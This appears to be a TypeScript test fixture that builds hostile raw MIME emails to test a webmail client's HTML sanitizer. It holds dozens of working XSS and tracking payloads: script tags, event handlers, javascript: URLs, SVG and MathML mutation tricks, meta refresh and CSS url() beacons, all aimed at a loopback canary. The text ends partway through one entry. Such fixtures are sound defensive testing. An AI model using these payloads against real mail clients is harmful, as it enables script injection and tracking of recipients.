// A corpus of hostile mail, with full control of the raw MIME: every message tries to run a
// script (each script sets a canary) or to reach a loopback beacon the test runs (each URL
// names the message and what it is, e.g. /h21/srcset-2x.png). Shared by the e2e security
// test; the messages are delivered with Email/import from raw bytes, so the server keeps them
// exactly as written here (encodings, charsets and all).
import { cyrusEnv } from './cyrus';
import { basic, jmap1 } from './jmap-raw';

/** Where the beacon listens: one port, reachable by several names. */
export interface Beacon {
  /** http://127.0.0.1:<port> */
  ip: string;
  /** http://beacon.localhost:<port>: Chromium resolves *.localhost to loopback itself. */
  named: string;
  /** http://img.localhost:<port> */
  img: string;
  /** //127.0.0.1:<port>: protocol-relative. */
  relative: string;
}

export function beaconAddresses(port: number): Beacon {
  return {
    ip: `http://127.0.0.1:${port}`,
    named: `http://beacon.localhost:${port}`,
    img: `http://img.localhost:${port}`,
    relative: `//127.0.0.1:${port}`,
  };
}

/** Every origin a corpus URL can point at (the network guard must let them through). */
export function beaconOrigins(b: Beacon): string[] {
  return [b.ip, b.named, b.img];
}

/** Beacon paths by extension: only these may ever load, and only after "Load remote content". */
export const passiveExtensions = ['png', 'gif', 'jpg', 'svg', 'css', 'woff'];

// ---- MIME ------------------------------------------------------------------------------

export type TransferEncoding = '7bit' | '8bit' | 'quoted-printable' | 'base64';

export interface MimePart {
  headers: [string, string][];
  /** Already encoded (see leaf()), or a multipart's children. */
  body: string | MimePart[];
  boundary?: string;
}

let boundaries = 0;

export function leaf(
  type: string,
  content: string,
  options: { charset?: string; encoding?: TransferEncoding; disposition?: string; cid?: string; qpForce?: RegExp } = {},
): MimePart {
  const encoding = options.encoding ?? '8bit';
  const charset = options.charset ?? (type.startsWith('text/') ? 'utf-8' : undefined);
  const headers: [string, string][] = [['Content-Type', charset ? `${type}; charset=${charset}` : type]];
  headers.push(['Content-Transfer-Encoding', encoding]);
  if (options.disposition) headers.push(['Content-Disposition', options.disposition]);
  if (options.cid) headers.push(['Content-ID', `<${options.cid}>`]);
  const body =
    encoding === 'base64'
      ? wrap(Buffer.from(content, 'utf8').toString('base64'), 76).join('\r\n')
      : encoding === 'quoted-printable'
        ? quotedPrintable(content, options.qpForce)
        : content.replace(/\r?\n/g, '\r\n');
  return { headers, body };
}

export function multipart(subtype: string, parts: MimePart[], extra = ''): MimePart {
  const boundary = `=_hostile_${++boundaries}_${Math.random().toString(36).slice(2)}`;
  return { headers: [['Content-Type', `multipart/${subtype}; boundary="${boundary}"${extra}`]], body: parts, boundary };
}

function renderPart(part: MimePart): string {
  const head = part.headers.map(([k, v]) => `${k}: ${v}`).join('\r\n');
  if (typeof part.body === 'string') return `${head}\r\n\r\n${part.body}`;
  const children = part.body.map((child) => `--${part.boundary}\r\n${renderPart(child)}\r\n`).join('');
  return `${head}\r\n\r\nThis is a multi-part message.\r\n${children}--${part.boundary}--\r\n`;
}

export function rawMessage(headers: [string, string][], root: MimePart): string {
  const head = [...headers, ['MIME-Version', '1.0'] as [string, string]].map(([k, v]) => `${k}: ${v}`).join('\r\n');
  return `${head}\r\n${renderPart(root)}\r\n`;
}

function wrap(text: string, width: number): string[] {
  const lines: string[] = [];
  for (let i = 0; i < text.length; i += width) lines.push(text.slice(i, i + width));
  return lines;
}

/**
 * Quoted-printable (RFC 2045 §6.7). `force` picks extra characters to encode (e.g. < and >),
 * and soft line breaks land every 60 characters, so tokens like "onerror" are split across
 * encoded lines and only a decoder can put them back together.
 */
export function quotedPrintable(text: string, force: RegExp = /[<>"]/): string {
  const out: string[] = [];
  for (const line of text.replace(/\r?\n/g, '\n').split('\n')) {
    let encoded = '';
    for (const byte of Buffer.from(line, 'utf8')) {
      const ch = String.fromCharCode(byte);
      const plain = byte >= 33 && byte <= 126 && ch !== '=' && !force.test(ch);
      encoded += plain || ch === ' ' ? ch : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    }
    if (encoded.endsWith(' ')) encoded = `${encoded.slice(0, -1)}=20`;
    const pieces: string[] = [];
    let rest = encoded;
    while (rest.length > 60) {
      let cut = 60;
      // Never split an =XX escape.
      const eq = rest.lastIndexOf('=', cut);
      if (eq > cut - 3) cut = eq;
      pieces.push(`${rest.slice(0, cut)}=`);
      rest = rest.slice(cut);
    }
    pieces.push(rest);
    out.push(pieces.join('\r\n'));
  }
  return out.join('\r\n');
}

// ---- payloads ---------------------------------------------------------------------------

/**
 * A script that leaves every trace it can: a global in the app window, the app's title, an
 * attribute on its own document, and a request to the beacon. Single quotes only, so it fits
 * in a double-quoted attribute and in a javascript: URL.
 */
function js(b: Beacon, key: string, where: string): string {
  return (
    `try{top.__pwned='${key}-${where}'}catch(e){};` +
    `try{parent.__pwned='${key}-${where}'}catch(e){};` +
    `try{parent.document.title='pwned ${key}'}catch(e){};` +
    `try{document.documentElement.dataset.pwned='${key}-${where}'}catch(e){};` +
    `try{fetch('${b.ip}/${key}/${where}-fetch.json',{mode:'no-cors'})}catch(e){};` +
    `try{navigator.sendBeacon('${b.named}/${key}/${where}-sendbeacon.json','x')}catch(e){}`
  );
}

/** The canary without spaces or quotes, for unquoted attribute values (the mXSS cases). */
const bare = 'top.__pwned=1;document.documentElement.dataset.pwned=1';

const escapeHtml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

const page = (key: string, title: string, body: string, head = ''): string =>
  `<!DOCTYPE html>\n<html><head>${head}</head><body>\n<p class="marker">Corpus marker ${key}: ${escapeHtml(title)}</p>\n${body}\n</body></html>\n`;

export interface HostileEntry {
  key: string;
  title: string;
  /** Where the body is shown: the sandboxed HTML frame or the plain-text view. */
  shows: 'html' | 'text';
  /** Beacon paths (no origin) that must load once the reader allows remote content. */
  remoteImages?: string[];
  /** Subject after the [key] prefix; defaults to the title. */
  subject?: (b: Beacon) => string;
  extraHeaders?: (b: Beacon) => [string, string][];
  root(b: Beacon): MimePart;
}

const html = (key: string, title: string, body: (b: Beacon) => string, head: (b: Beacon) => string = () => '') => (b: Beacon) =>
  leaf('text/html', page(key, title, body(b), head(b)));

const handlers = [
  'onload', 'onerror', 'onclick', 'ondblclick', 'onmousedown', 'onmouseup', 'onmouseover', 'onmousemove', 'onmouseout',
  'onmouseenter', 'onmouseleave', 'onpointerdown', 'onpointerenter', 'onpointerover', 'onwheel', 'onkeydown', 'onkeypress',
  'onkeyup', 'onfocus', 'onblur', 'onfocusin', 'onchange', 'oninput', 'onsubmit', 'onreset', 'onselect', 'oncopy', 'onpaste',
  'oncut', 'ondrag', 'ondragstart', 'ondrop', 'onscroll', 'onresize', 'oncontextmenu', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'ontoggle', 'onbeforeprint', 'onafterprint', 'onpageshow', 'onhashchange', 'onmessage', 'onstorage',
  'onunload', 'onbeforeunload', 'onplay', 'oncanplay', 'onloadstart', 'onbegin', 'onend', 'onrepeat', 'onsearch',
  'onauxclick', 'onbeforeinput', 'onformdata', 'onsecuritypolicyviolation', 'onslotchange', 'onpointerrawupdate',
];

export function hostileCorpus(): HostileEntry[] {
  const entries: HostileEntry[] = [
    {
      key: 'h01',
      title: 'plain script tags, inline and external',
      shows: 'html',
      root: html('h01', 'plain script tags', (b) => `
<script>${js(b, 'h01', 'inline')}</script>
<script src="${b.ip}/h01/external.js"></script>
<script type="module">${js(b, 'h01', 'module')}</script>
<script type="text/javascript" defer src="${b.named}/h01/defer.js"></script>
<script async src="${b.relative}/h01/async.js"></script>
<script type="importmap">{"imports":{"x":"${b.ip}/h01/importmap.js"}}</script>`),
    },
    {
      key: 'h02',
      title: 'script tags in upper and mixed case, with odd attributes',
      shows: 'html',
      root: html('h02', 'script case tricks', (b) => `
<SCRIPT>${js(b, 'h02', 'upper')}</SCRIPT>
<ScRiPt>${js(b, 'h02', 'mixed')}</sCrIpT>
<SCRIPT SRC="${b.ip}/h02/upper.js"></SCRIPT>
<script/src="${b.ip}/h02/slash.js"></script>
<script
src="${b.named}/h02/newline.js"></script>
<script\tsrc="${b.ip}/h02/tab.js"></script>
<script language="JavaScript1.2">${js(b, 'h02', 'language')}</script>
<script for="window" event="onload">${js(b, 'h02', 'for-event')}</script>`),
    },
    {
      key: 'h03',
      title: 'obfuscated scripts: split, nested, commented, encoded',
      shows: 'html',
      root: html('h03', 'obfuscated scripts', (b) => `
<scr<script>ipt>${js(b, 'h03', 'nested')}</scr</script>ipt>
<<script>script>${js(b, 'h03', 'double-lt')}<</script>/script>
<!--<script>${js(b, 'h03', 'in-comment')}</script>-->
<!--[if gte IE 4]><script>${js(b, 'h03', 'conditional')}</script><![endif]-->
<![CDATA[<script>${js(b, 'h03', 'cdata')}</script>]]>
<script>/*</script><script>*/${js(b, 'h03', 'comment-split')}</script>
<script src=data:text/javascript,${encodeURIComponent(js(b, 'h03', 'data-src'))}></script>
<script src="data:text/javascript;base64,${Buffer.from(js(b, 'h03', 'data-b64')).toString('base64')}"></script>
<p>&lt;script&gt;this text is escaped and harmless&lt;/script&gt;</p>
<noscript><script>${js(b, 'h03', 'in-noscript')}</script></noscript>
<template><script>${js(b, 'h03', 'in-template')}</script></template>`),
    },
    {
      key: 'h04',
      title: 'every common event handler attribute',
      shows: 'html',
      root: html('h04', 'event handlers', (b) =>
        [
          `<body ${handlers.map((h) => `${h}="${js(b, 'h04', `body-${h}`)}"`).join(' ')}>`,
          ...handlers.map((h) => `<div ${h}="${js(b, 'h04', h)}" tabindex="0" style="animation:spin 1ms;transition:color 1ms">${h}</div>`),
          `<img src="x" ${handlers.map((h) => `${h}="${js(b, 'h04', `img-${h}`)}"`).join(' ')}>`,
        ].join('\n'),
      ),
    },
    {
      key: 'h05',
      title: 'handlers that fire by themselves (autofocus, toggle, animation, media errors)',
      shows: 'html',
      root: html(
        'h05',
        'self-firing handlers',
        (b) => `
<style>@keyframes spin{from{color:red}to{color:blue}}</style>
<img src=x onerror="${js(b, 'h05', 'img-onerror')}">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${js(b, 'h05', 'img-onload')}">
<input autofocus onfocus="${js(b, 'h05', 'autofocus')}">
<a href="#" autofocus onfocus="${js(b, 'h05', 'a-autofocus')}">focus me</a>
<details open ontoggle="${js(b, 'h05', 'toggle')}"><summary>details</summary>x</details>
<div style="animation:spin 1ms" onanimationstart="${js(b, 'h05', 'animation')}">animated</div>
<marquee onstart="${js(b, 'h05', 'marquee')}">marquee</marquee>
<video src=x onerror="${js(b, 'h05', 'video-onerror')}"></video>
<audio src=x onerror="${js(b, 'h05', 'audio-onerror')}"></audio>
<object data=x onerror="${js(b, 'h05', 'object-onerror')}"></object>
<iframe onload="${js(b, 'h05', 'iframe-onload')}"></iframe>
<style onload="${js(b, 'h05', 'style-onload')}"></style>
<svg onload="${js(b, 'h05', 'svg-onload')}"></svg>
<body onpageshow="${js(b, 'h05', 'pageshow')}">
<img/src=x/onerror=${bare}>
<img src=x ONERROR="${js(b, 'h05', 'upper-handler')}">
<img src=x onerror\n="${js(b, 'h05', 'newline-before-eq')}">
<img src=x onerror  =  "${js(b, 'h05', 'spaces-around-eq')}">
<img src=x """ onerror="${js(b, 'h05', 'stray-quotes')}">
<img src=x onerror=&#116;op.__pwned=1>
<img src=x onerror="&#x74;&#x6f;&#x70;.__pwned=1">`,
      ),
    },
    {
      key: 'h06',
      title: 'javascript: URLs in a, area, form, iframe, object, embed, base',
      shows: 'html',
      root: html('h06', 'javascript: URLs', (b) => `
<a href="javascript:${js(b, 'h06', 'a')}">plain javascript link</a>
<a href="JaVaScRiPt:${js(b, 'h06', 'a-case')}">mixed case</a>
<a href=" &#14; javascript:${js(b, 'h06', 'a-leading-space')}">leading whitespace</a>
<a href="java&#x09;script:${js(b, 'h06', 'a-tab')}">entity tab</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;top.__pwned=1">all entities</a>
<a href="javascript&colon;top.__pwned=1">named colon</a>
<a href="jav&#x0A;ascript:top.__pwned=1">newline inside</a>
<map name="m"><area shape="rect" coords="0,0,100,100" href="javascript:${js(b, 'h06', 'area')}"></map>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" width="100" height="20" alt="map">
<form action="javascript:${js(b, 'h06', 'form')}"><button formaction="javascript:${js(b, 'h06', 'formaction')}">go</button></form>
<iframe src="javascript:${js(b, 'h06', 'iframe')}"></iframe>
<object data="javascript:${js(b, 'h06', 'object')}"></object>
<embed src="javascript:${js(b, 'h06', 'embed')}">
<base href="javascript:${js(b, 'h06', 'base')}//">
<a href="relative-after-base">relative link</a>
<svg><a xlink:href="javascript:${js(b, 'h06', 'svg-a')}"><text x="0" y="15">svg link</text></a></svg>`),
    },
    {
      key: 'h07',
      title: 'vbscript: and other odd schemes',
      shows: 'html',
      root: html('h07', 'vbscript and odd schemes', (b) => `
<a href="vbscript:MsgBox(&quot;pwned&quot;)">vbscript link</a>
<a href="VBScript:Execute(&quot;x&quot;)">vbscript upper</a>
<img src="vbscript:MsgBox(1)">
<iframe src="vbscript:MsgBox(1)"></iframe>
<a href="livescript:top.__pwned=1">livescript</a>
<a href="mocha:top.__pwned=1">mocha</a>
<a href="file:///etc/passwd">file</a>
<a href="blob:${b.ip}/h07-blob">blob</a>
<a href="filesystem:${b.ip}/temporary/h07">filesystem</a>
<a href="view-source:${b.ip}/h07/view-source.html">view-source</a>
<a href="${b.ip.replace('http', 'ws')}/h07/websocket">websocket</a>
<a href="intent://x#Intent;scheme=javascript;end">intent</a>
<img src="${b.ip.replace('http', 'ftp')}/h07/ftp.png">`),
    },
    {
      key: 'h08',
      title: 'data:text/html and data: SVG in links, frames, objects, embeds',
      shows: 'html',
      root: html('h08', 'data: documents', (b) => {
        const doc = `<script>${js(b, 'h08', 'data-doc')}</script>`;
        const b64 = Buffer.from(doc).toString('base64');
        const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(b, 'h08', 'data-svg')}"/>`).toString('base64');
        return `
<a href="data:text/html,${encodeURIComponent(doc)}">data html link</a>
<a href="data:text/html;base64,${b64}">data base64 link</a>
<map name="d"><area href="data:text/html;base64,${b64}" shape="default"></map>
<iframe src="data:text/html;base64,${b64}"></iframe>
<iframe src="data:image/svg+xml;base64,${svg}"></iframe>
<object data="data:text/html;base64,${b64}"></object>
<object type="image/svg+xml" data="data:image/svg+xml;base64,${svg}"></object>
<embed src="data:image/svg+xml;base64,${svg}" type="image/svg+xml">
<embed src="data:text/html;base64,${b64}">
<img src="data:image/svg+xml;base64,${svg}" alt="svg in img (scripts never run here)">
<form action="data:text/html;base64,${b64}"><input type="submit"></form>
<a href="DATA:text/html,${encodeURIComponent(doc)}">upper data</a>`;
      }),
    },
    {
      key: 'h09',
      title: '<base href> re-pointing relative URLs at the beacon',
      shows: 'html',
      root: html(
        'h09',
        'base href',
        (b) => `
<base href="${b.ip}/h09/body-base/">
<img src="relative.png" alt="relative">
<img src="/h09/root-relative.png" alt="root relative">
<img src="/\\127.0.0.1:${b.ip.split(':')[2]}/h09/backslash.png" alt="backslash">
<div style="background:url(relative-bg.png)">relative background</div>
<a href="relative-link">relative link</a>`,
        (b) => `<base href="${b.named}/h09/head-base/"><base target="_top"><link rel="stylesheet" href="relative.css">`,
      ),
    },
    {
      key: 'h10',
      title: 'forms: action, formaction, input type=image, autosubmit',
      shows: 'html',
      root: html('h10', 'forms', (b) => `
<form id="f1" action="${b.ip}/h10/form-action.html" method="post"><input name="q" value="secret"><input type="submit" value="Send"></form>
<form action="${b.named}/h10/get.html" method="get" target="_top"><input type="hidden" name="token" value="x"><button>Go</button></form>
<button form="f1" formaction="${b.ip}/h10/formaction.html">outside button</button>
<input type="image" src="${b.ip}/h10/input-image.png" alt="image input">
<form><input type="image" src="${b.img}/h10/input-image-2.png" formaction="${b.ip}/h10/image-formaction.html"></form>
<isindex action="${b.ip}/h10/isindex.html" prompt="search">
<form action="${b.ip}/h10/autosubmit.html"><input autofocus onfocus="this.form.submit()"></form>
<select><option>one</option></select><textarea>text</textarea>`),
    },
    {
      key: 'h11',
      title: 'iframes, frames, objects, embeds, applets, portals',
      shows: 'html',
      root: html('h11', 'embedded documents', (b) => `
<iframe src="${b.ip}/h11/iframe.html" width="200" height="50"></iframe>
<iframe srcdoc="<script>${js(b, 'h11', 'srcdoc')}</script><img src='${b.ip}/h11/srcdoc.png'>"></iframe>
<iframe src="${b.relative}/h11/relative-iframe.html"></iframe>
<frameset><frame src="${b.ip}/h11/frame.html"></frameset>
<noframes><img src="${b.ip}/h11/noframes.png"></noframes>
<object data="${b.ip}/h11/object.html" type="text/html"></object>
<object data="${b.named}/h11/object.swf" type="application/x-shockwave-flash"><param name="movie" value="${b.ip}/h11/param.swf"></object>
<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000" codebase="${b.ip}/h11/codebase.cab"></object>
<embed src="${b.ip}/h11/embed.svg" type="image/svg+xml">
<embed src="${b.img}/h11/embed.swf">
<applet code="Pwn.class" codebase="${b.ip}/h11/applet/"></applet>
<portal src="${b.ip}/h11/portal.html"></portal>
<fencedframe src="${b.ip}/h11/fenced.html"></fencedframe>`),
    },
    {
      key: 'h12',
      title: 'SVG: onload, script inside svg, animation setting handlers, foreignObject',
      shows: 'html',
      root: html('h12', 'svg scripts', (b) => `
<svg onload="${js(b, 'h12', 'svg-onload')}" width="10" height="10"></svg>
<svg xmlns="http://www.w3.org/2000/svg"><script>${js(b, 'h12', 'svg-script')}</script></svg>
<svg><script xlink:href="${b.ip}/h12/svg-script-href.js"></script><script href="${b.ip}/h12/svg-script-href2.js"></script></svg>
<svg><g onload="${js(b, 'h12', 'g-onload')}"><rect width="5" height="5"/></g></svg>
<svg><animate onbegin="${js(b, 'h12', 'animate-onbegin')}" attributeName="x" dur="1ms"/></svg>
<svg><set attributeName="onmouseover" to="${bare}"/><rect width="50" height="50"/></svg>
<svg><a><animate attributeName="href" values="javascript:${bare}"/><text x="0" y="20">animated href</text></a></svg>
<svg><foreignObject width="100" height="50"><iframe src="${b.ip}/h12/fo-iframe.html"></iframe><img src="x" onerror="${js(b, 'h12', 'fo-img')}"><script>${js(b, 'h12', 'fo-script')}</script></foreignObject></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${bare}</handler></svg>
<svg><discard onbegin="${js(b, 'h12', 'discard')}"/></svg>`),
    },
    {
      key: 'h13',
      title: 'SVG remote references: use href, image, feImage, filter, pattern, style',
      shows: 'html',
      root: html('h13', 'svg remote references', (b) => `
<svg width="20" height="20"><use href="${b.ip}/h13/use-href.svg#x"/></svg>
<svg width="20" height="20"><use xlink:href="${b.named}/h13/use-xlink.svg#x"/></svg>
<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${b.ip}/h13/use-data-image.png" onload="${bare}"/></svg>`).toString('base64')}#x"/></svg>
<svg width="20" height="20"><image href="${b.ip}/h13/image-href.png" width="20" height="20"/></svg>
<svg width="20" height="20"><image xlink:href="${b.img}/h13/image-xlink.png" width="20" height="20"/></svg>
<svg><filter id="f"><feImage href="${b.ip}/h13/feimage.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>
<svg><rect width="5" height="5" filter="url(${b.ip}/h13/filter.svg#f)" fill="url(${b.ip}/h13/fill.svg#p)" mask="url(${b.ip}/h13/mask.svg#m)"/></svg>
<svg><style>rect{fill:url(${b.ip}/h13/svg-style.svg#p)}@import url(${b.ip}/h13/svg-import.css);</style><rect width="5" height="5"/></svg>
<svg><pattern id="p"><image href="${b.ip}/h13/pattern.png"/></pattern></svg>
<svg><tref xlink:href="${b.ip}/h13/tref.svg#t"/><cursor xlink:href="${b.ip}/h13/cursor.png"/></svg>`),
    },
    {
      key: 'h14',
      title: 'MathML tricks: namespace confusion, maction, href on math elements',
      shows: 'html',
      root: html('h14', 'mathml', (b) => `
<math><mtext><table><mglyph><style><img src=x onerror="${js(b, 'h14', 'mglyph-style')}"></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${bare}&gt;"></style></mglyph></table></mtext></math>
<math href="javascript:${js(b, 'h14', 'math-href')}"><mi>x</mi></math>
<math><maction actiontype="statusline" xlink:href="javascript:${js(b, 'h14', 'maction')}"><mtext>click</mtext><mtext>status</mtext></maction></math>
<math><mi xlink:href="data:x,<script>${bare}</script>">mi</mi></math>
<math><annotation-xml encoding="text/html"><script>${js(b, 'h14', 'annotation-xml')}</script><img src="${b.ip}/h14/annotation.png"></annotation-xml></math>
<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="${b.ip}/h14/xhtml-iframe.html"></iframe></annotation-xml></semantics></math>
<math><mglyph src="${b.ip}/h14/mglyph.png"/></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${bare} src>">`),
    },
    {
      key: 'h15',
      title: 'meta refresh, meta set-cookie, meta CSP relaxation',
      shows: 'html',
      root: html(
        'h15',
        'meta tags',
        (b) => `
<meta http-equiv="refresh" content="0;url=${b.ip}/h15/body-refresh.html">
<meta http-equiv="Refresh" content="1; URL='javascript:${bare}'">
<meta http-equiv="location" content="url=${b.ip}/h15/location.html">`,
        (b) => `
<meta http-equiv="refresh" content="0;url=${b.ip}/h15/refresh.html">
<meta http-equiv="REFRESH" content="0;url=data:text/html;base64,${Buffer.from(`<script>${js(b, 'h15', 'refresh-data')}</script>`).toString('base64')}">
<meta http-equiv="Set-Cookie" content="pwned=1; path=/">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; script-src * 'unsafe-inline'">
<meta name="referrer" content="unsafe-url">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta property="og:image" content="${b.ip}/h15/og.png">`,
      ),
    },
    {
      key: 'h16',
      title: 'CSS url() beacons in inline styles (every property that loads)',
      shows: 'html',
      remoteImages: ['/h16/background-image.png', '/h16/background-shorthand.png'],
      root: html('h16', 'inline style beacons', (b) => `
<div style="background-image:url('${b.ip}/h16/background-image.png');height:12px">background-image</div>
<div style="background: #fff url(${b.ip}/h16/background-shorthand.png) no-repeat;height:12px">background shorthand</div>
<ul style="list-style:square url(&quot;${b.ip}/h16/list-style.png&quot;)"><li>list-style</li></ul>
<ul style="list-style-image:url(${b.named}/h16/list-style-image.png)"><li>list-style-image</li></ul>
<div style="cursor:url(${b.ip}/h16/cursor.png), auto">cursor</div>
<div style="border:10px solid;border-image:url(${b.ip}/h16/border-image.png) 30 round">border-image</div>
<div style="mask-image:url(${b.ip}/h16/mask-image.png);-webkit-mask-image:url(${b.ip}/h16/webkit-mask.png)">mask</div>
<div style="shape-outside:url(${b.ip}/h16/shape-outside.png);float:left;width:1px;height:1px"></div>
<div style="filter:url(${b.ip}/h16/filter.svg#f)">filter</div>
<div style="content:url(${b.ip}/h16/content.png)">content</div>
<div style="background-image:URL(${b.ip}/h16/upper-url.png)">URL upper case</div>
<div style="background-image:url(  &quot;${b.ip}/h16/spaced.png&quot;  )">spaced</div>
<div style="background-image:url(${b.relative}/h16/protocol-relative.png)">protocol relative</div>
<div style="background-image:url(${b.ip}/h16/a.png), url(${b.named}/h16/b.png)">two layers</div>
<div style="background-image:\\75 rl(${b.ip}/h16/escaped-url.png)">css escape</div>
<div style="background-image:u\\rl(${b.ip}/h16/escaped-r.png)">css escape r</div>
<div style="--x:url(${b.ip}/h16/custom-property.png);background-image:var(--x)">custom property</div>
<div style="background-image:/**/url(${b.ip}/h16/comment.png)">comment</div>
<div style="background:url(javascript:${bare})">javascript in url</div>
<div style="behavior:url(${b.ip}/h16/behavior.htc)">behavior</div>
<div style="background-image:image(&quot;${b.ip}/h16/image-fn.png&quot;)">image()</div>
<div style="background-image:cross-fade(url(${b.ip}/h16/cross-fade.png), none, 50%)">cross-fade</div>`),
    },
    {
      key: 'h17',
      title: 'CSS beacons in <style> blocks',
      shows: 'html',
      remoteImages: ['/h17/style-body.png'],
      root: html(
        'h17',
        '<style> blocks',
        () => `<div class="bg">styled by a style block</div><ul class="ls"><li>list</li></ul><p class="before">before</p><div class="cur">cursor</div>`,
        (b) => `<style>
body{background:url(${b.ip}/h17/style-body.png) repeat-x}
.bg{background-image:url("${b.named}/h17/style-bg.png");height:10px}
.ls{list-style:url('${b.ip}/h17/style-list.png')}
.before::before{content:url(${b.ip}/h17/style-content.png)}
.cur{cursor:url(${b.ip}/h17/style-cursor.png),pointer}
:root{--beacon:url(${b.ip}/h17/style-var.png)}
.bg{border-image:var(--beacon) 1}
@media screen{.bg{background:url(${b.ip}/h17/style-media.png)}}
@supports (display:grid){.bg{outline-color:red;background-image:url(${b.ip}/h17/style-supports.png)}}
@layer x{.bg{background-image:url(${b.ip}/h17/style-layer.png)}}
@namespace svg url(${b.ip}/h17/namespace);
.bg:hover{background:url(${b.ip}/h17/style-hover.png)}
.esc{background:\\75 rl(${b.ip}/h17/style-escaped.png)}
</style><style>
@charset "utf-8";
.x{background:url(${b.ip}/h17/second-style.png)}
</style>`,
      ),
    },
    {
      key: 'h18',
      title: '@import and @font-face',
      shows: 'html',
      remoteImages: ['/h18/import-url.css', '/h18/font-face.woff'],
      root: html(
        'h18',
        '@import and @font-face',
        () => `<p style="font-family:pwnfont">uses the remote font</p><p class="f2">second font</p>`,
        (b) => `<style>
@import url(${b.ip}/h18/import-url.css);
@import "${b.named}/h18/import-string.css";
@import '${b.ip}/h18/import-single.css' screen;
@import url("${b.ip}/h18/import-layer.css") layer(x) supports(display:grid);
@IMPORT url(${b.ip}/h18/import-upper.css);
@import/**/"${b.ip}/h18/import-comment.css";
@im\\port url(${b.ip}/h18/import-escaped.css);
@font-face{font-family:pwnfont;src:url(${b.ip}/h18/font-face.woff) format("woff"),local(Arial)}
@font-face{font-family:pwn2;src:local(x),url("${b.named}/h18/font-face-2.woff")}
.f2{font-family:pwn2}
</style>`,
      ),
    },
    {
      key: 'h19',
      title: 'image-set() and -webkit-image-set()',
      shows: 'html',
      root: html(
        'h19',
        'image-set',
        (b) => `
<div style="background-image:image-set(&quot;${b.ip}/h19/inline-set-1x.png&quot; 1x, &quot;${b.ip}/h19/inline-set-2x.png&quot; 2x);height:10px">inline image-set</div>
<div style="background-image:-webkit-image-set(url(${b.ip}/h19/webkit-1x.png) 1x);height:10px">webkit image-set</div>
<div class="set">style-block image-set</div>`,
        (b) => `<style>.set{height:10px;background-image:image-set('${b.named}/h19/block-1x.png' 1x,'${b.ip}/h19/block-2x.png' 2x);content:image-set("${b.ip}/h19/content.png" type("image/png"))}</style>`,
      ),
    },
    {
      key: 'h20',
      title: 'CSS expression(), -moz-binding, behavior',
      shows: 'html',
      root: html(
        'h20',
        'legacy css script',
        (b) => `
<div style="width:expression(${bare})">expression</div>
<div style="x:expr/**/ession(top.__pwned=1)">split expression</div>
<div style="-moz-binding:url(${b.ip}/h20/binding.xml#xss)">moz-binding</div>
<div style="behavior:url(${b.ip}/h20/behavior.htc)">behavior</div>
<div style="background:url(&quot;javascript:${bare}&quot;)">javascript url</div>
<div class="legacy">legacy class</div>`,
        (b) => `<style>.legacy{width:expression(top.__pwned=1);-moz-binding:url("${b.ip}/h20/binding-block.xml#x");behavior:url(${b.ip}/h20/block.htc)}</style>`,
      ),
    },
    {
      key: 'h21',
      title: 'img src, srcset, lowsrc, dynsrc and protocol-relative sources',
      shows: 'html',
      remoteImages: ['/h21/img-src.png', '/h21/img-named.png'],
      root: html('h21', 'image beacons', (b) => `
<img src="${b.ip}/h21/img-src.png" width="8" height="8" alt="src">
<img src="${b.named}/h21/img-named.png" width="8" height="8" alt="named">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${b.ip}/h21/srcset-1x.png 1x, ${b.ip}/h21/srcset-2x.png 2x" alt="srcset">
<img srcset="${b.img}/h21/srcset-w.png 100w" sizes="10px" alt="srcset w">
<img src="${b.relative}/h21/protocol-relative.png" alt="protocol relative">
<img src=" ${b.ip}/h21/leading-space.png" alt="leading space">
<img src="HTTP://127.0.0.1:${b.ip.split(':')[2]}/h21/upper-scheme.png" alt="upper scheme">
<img src="&#104;ttp://127.0.0.1:${b.ip.split(':')[2]}/h21/entity-scheme.png" alt="entity">
<img src="http&#58;//127.0.0.1:${b.ip.split(':')[2]}/h21/entity-colon.png" alt="entity colon">
<img src="ht&#9;tp://127.0.0.1:${b.ip.split(':')[2]}/h21/tab-in-scheme.png" alt="tab">
<img lowsrc="${b.ip}/h21/lowsrc.png" dynsrc="${b.ip}/h21/dynsrc.avi" alt="lowsrc">
<image src="${b.ip}/h21/image-tag.png">
<img src="http://user:pass@127.0.0.1:${b.ip.split(':')[2]}/h21/credentials.png" alt="credentials">`),
    },
    {
      key: 'h22',
      title: '<picture><source srcset> beacons',
      shows: 'html',
      root: html('h22', 'picture sources', (b) => `
<picture>
  <source srcset="${b.ip}/h22/source-webp.webp" type="image/webp">
  <source media="(min-width: 1px)" srcset="${b.named}/h22/source-media.png 1x, ${b.ip}/h22/source-media-2x.png 2x">
  <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="picture fallback">
</picture>
<picture><source srcset="${b.img}/h22/only-source.png"><img alt="no src"></picture>`),
    },
    {
      key: 'h23',
      title: '<link> stylesheet, prefetch, preload, dns-prefetch, preconnect, icon',
      shows: 'html',
      remoteImages: ['/h23/link-stylesheet.css'],
      root: html(
        'h23',
        'link elements',
        (b) => `<link rel="stylesheet" href="${b.ip}/h23/body-link.css"><link rel="prefetch" href="${b.ip}/h23/body-prefetch.png">`,
        (b) => `
<link rel="stylesheet" href="${b.ip}/h23/link-stylesheet.css">
<link rel="StyleSheet" href="${b.named}/h23/link-case.css" media="all">
